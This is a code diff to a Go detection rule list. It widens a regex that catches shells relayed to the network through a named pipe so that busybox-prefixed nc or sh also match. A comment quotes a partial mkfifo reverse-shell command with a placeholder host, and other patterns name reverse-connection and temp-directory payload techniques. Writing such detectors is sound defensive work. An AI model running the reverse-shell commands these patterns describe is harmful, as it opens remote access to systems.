@@ -55,7 +55,7 @@ var cmdPatterns = []cmdPattern{
 	// cat f | sh -i 2>&1 | nc HOST PORT > f). No socket reaches the shell's
 	// stdio, so the ReverseShell detector cannot see it.
 	pat(tExecution, 8, "shell relayed to the network through a named pipe",
-		`(mkfifo|mknod\s+\S+\s+p)\s.*\b((ba|da|z|k|a)?sh\b[^|]*\|\s*\S*\b(nc|ncat|netcat|socat|telnet|openssl)\b|(nc|ncat|netcat|socat|telnet|openssl)\b[^|]*\|\s*\S*\b(ba|da|z|k|a)?sh\b)`),
+		`(mkfifo|mknod\s+\S+\s+p)\s.*\b((ba|da|z|k|a)?sh\b[^|]*\|\s*(\S*busybox\s+)?\S*\b(nc|ncat|netcat|socat|telnet|openssl)\b|(nc|ncat|netcat|socat|telnet|openssl)\b[^|]*\|\s*(\S*busybox\s+)?\S*\b(ba|da|z|k|a)?sh\b)`),
 	pat(tExecution, 0, "scripted reverse connection", `(python[0-9.]*|perl|ruby|php)\s+-\S*[ce]\s.*socket.*(subprocess|pty|exec|dup2|spawn)`),
 	pat(tExecution, 0, "payload made executable and run from a temp dir", `chmod\s+(\+x|[0-7]*[157][0-7]{2})\s+/(tmp|dev/shm|var/tmp)/\S+\s*(&&|;)\s*/(tmp|dev/shm|var/tmp)/`),
 	// Discovery.
